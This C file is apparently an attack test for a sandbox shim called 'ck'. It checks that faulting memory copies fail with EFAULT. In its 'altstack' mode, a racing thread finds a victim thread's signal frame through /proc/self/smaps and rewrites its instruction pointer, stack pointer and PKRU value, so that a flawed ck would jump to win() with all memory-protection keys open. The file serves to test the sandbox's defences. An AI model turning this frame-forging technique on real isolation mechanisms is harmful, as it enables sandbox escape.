// SPDX-License-Identifier: Apache-2.0
/*
 * intratk MODE: attacks on ck's nested entry (shim/guest/intr.c), where a
 * signal or a fault comes while a thread is already in ck.
 *   copyfault  ck copies program memory that faults (a pointer past the
 *              end of a file mapping: SIGBUS): the call must fail with
 *              EFAULT, as Linux's; in a fork child, the ORACLE is that
 *              child killed (or the call not failing)
 *   altstack   thread A blocks in read(2) on a pipe (a forwarded,
 *              interruptible call) while the main thread sends it SIGUSR1
 *              again and again, and thread B rewrites the frame the
 *              kernel puts on A's altstack for that signal (found from
 *              A's SIGSYS frames there): RIP to win(), RSP to B's stack,
 *              PKRU 0 in the xsave area. A ck that resumed through that
 *              frame (mutant INTR_SIGRETURN) runs win() with every key
 *              open: it reads ck_canary (the ORACLE) and exits
 */
#define _GNU_SOURCE
#include <cpuid.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ATK_NAME "intratk"
#include "atk.h"

#define PAGE		4096UL
#define CANARY		0x63616e6172794b21ULL

/* ---- copyfault ---- */

static int copyfault_child(void)
{
	char path[] = "/tmp/intratk.XXXXXX";
	int fd = mkstemp(path);
	char *m;
	long r1, r2;

	if (fd < 0 || ftruncate(fd, PAGE))
		return 2;
	unlink(path);
	m = mmap(0, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (m == MAP_FAILED)
		return 2;
	/* ck checks the range (mapped, readable), then copies: SIGBUS. */
	r1 = syscall(SYS_rt_sigprocmask, SIG_BLOCK, m + PAGE, 0, 8);
	r2 = syscall(SYS_rt_sigprocmask, SIG_BLOCK, 0, m + PAGE, 8);
	printf("copyfault: %ld %ld\n", r1, r2);
	return r1 == -1 && r2 == -1 && errno == EFAULT ? 0 : 1;
}

static int copyfault(void)
{
	int st;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid == 0)
		_exit(copyfault_child());
	if (pid < 0 || waitpid(pid, &st, 0) != pid)
		return 2;
	if (WIFSIGNALED(st))
		atk_say("ORACLE", "a fault in ck's copy window killed the "
			"process (signal %d)", WTERMSIG(st));
	else if (WEXITSTATUS(st))
		atk_say("ORACLE", "the faulting copy did not fail with EFAULT "
			"(exit %d)", WEXITSTATUS(st));
	else
		atk_say("blocked", "the faulting copies failed with EFAULT");
	return 0;
}

/* ---- altstack ---- */

#define ROUNDS		40
#define UC_SIZE		304	/* the kernel's struct ucontext */
#define MC_OFF		40	/* uc_mcontext in it */

static volatile int forge, forging, calm, handled, a_tid;
static uint64_t canary_addr;
static char win_stack[64 * 1024] __attribute__((aligned(16)));
static int pipefd[2];
extern const char a_read_ret[];

/* Runs only if a forged frame was restored: every key open, no ck. */
static void __attribute__((noreturn, used)) win(void)
{
	static const char msg[] = "ORACLE: ck resumed a forged nested frame: "
				  "ck_canary read\n";
	volatile uint64_t *c = (volatile uint64_t *)canary_addr;

	if (*c == CANARY)
		syscall(SYS_write, 1, msg, sizeof(msg) - 1);
	syscall(SYS_exit_group, 0);
	for (;;)
		;
}

static void on_usr1(int sig)
{
	(void)sig;
	handled++;
	while (!calm)	/* no syscall (a SIGSYS frame) while B forges */
		;
	calm = 0;
}

/* A: one read of a byte, a raw syscall whose return address B knows. */
static void *victim(void *arg)
{
	long r;
	char c;

	(void)arg;
	a_tid = (int)syscall(SYS_gettid);
	__asm__ volatile("syscall\n"
			 ".globl a_read_ret\n"
			 "a_read_ret:"
			 : "=a"(r)
			 : "0"((long)SYS_read), "D"((long)pipefd[0]), "S"(&c),
			   "d"(1L)
			 : "rcx", "r11", "memory");
	return (void *)r;
}

/* A's SIGSYS frame on one of the 64 KiB pkey-0 anonymous mappings. */
static uint8_t *find_frame(void)
{
	FILE *f = fopen("/proc/self/smaps", "r");
	char line[256];
	uint64_t lo = 0, hi = 0, p;
	int cand = 0;

	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		unsigned long a, b;
		char perm[8];
		int pk;

		if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) == 3 &&
		    strchr(line, '-') < strchr(line, ' ')) {
			lo = a;
			hi = b;
			cand = b - a == 0x10000 && !strcmp(perm, "rw-p") &&
			       strstr(line, " 00:00 0");
			continue;
		}
		if (!cand || sscanf(line, "ProtectionKey: %d", &pk) != 1)
			continue;
		cand = 0;
		if (pk)
			continue;
		for (p = hi - 128; p >= lo + UC_SIZE; p -= 8) {
			const int32_t *i = (const int32_t *)p;

			if (i[0] == SIGSYS && i[2] == 2 &&
			    *(const uint64_t *)(p + 16) == (uint64_t)a_read_ret) {
				fclose(f);
				return (uint8_t *)p - UC_SIZE;
			}
		}
	}
	fclose(f);
	return 0;
}

static uint8_t *uc;
static unsigned int pkru_off;

static void *forger(void *arg)
{
	uint64_t *mc = (uint64_t *)(uc + MC_OFF), fp;

	(void)arg;
	for (;;) {
		while (!forge)
			;
		forging = 1;
		while (forge) {
			mc[15] = (uint64_t)(win_stack + sizeof(win_stack) - 8);
			mc[16] = (uint64_t)win;
			fp = mc[23];
			if (fp && pkru_off)
				*(volatile uint32_t *)(fp + pkru_off) = 0;
		}
		forging = 0;
	}
	return 0;
}

static void ms(long n)
{
	struct timespec t = { 0, n * 1000000L };

	nanosleep(&t, 0);
}

static int altstack(void)
{
	unsigned int a, b, c, d;
	struct sigaction sa;
	pthread_t ta, tb;
	void *ret;
	int round, tries, h;

	canary_addr = env_addr("CK_CANARY");
	if (__get_cpuid_count(0xd, 9, &a, &b, &c, &d))
		pkru_off = b;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_usr1;	/* no SA_RESTART: the kernel rewinds anyway */
	sigaction(SIGUSR1, &sa, 0);
	if (pipe(pipefd) || pthread_create(&ta, 0, victim, 0))
		return 2;
	ms(200);	/* A blocks in its read */
	uc = find_frame();
	if (!uc) {
		fprintf(stderr, "intratk: A's frame not found\n");
		return 2;
	}
	if (pthread_create(&tb, 0, forger, 0))
		return 2;
	for (round = 0; round < ROUNDS; round++) {
		h = handled;
		forge = 1;
		for (tries = 0; tries < 100 && handled == h; tries++) {
			syscall(SYS_tgkill, getpid(), a_tid, SIGUSR1);
			ms(5);
		}
		forge = 0;
		while (forging)
			;
		calm = 1;
		if (handled == h)
			break;
		while (calm)	/* the handler has returned */
			;
	}
	if (write(pipefd[1], "x", 1) != 1)
		return 2;
	pthread_join(ta, &ret);
	atk_say("blocked", "%d signals ended A's read (%d handled), each nested "
		"frame rewritten; the read returned %ld", round, (int)handled,
		(long)ret);
	return 0;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	setvbuf(stdout, 0, _IONBF, 0);
	if (!strcmp(mode, "copyfault"))
		return copyfault();
	if (!strcmp(mode, "altstack"))
		return altstack();
	fprintf(stderr, "intratk: bad mode: %s\n", mode);
	return 2;
}
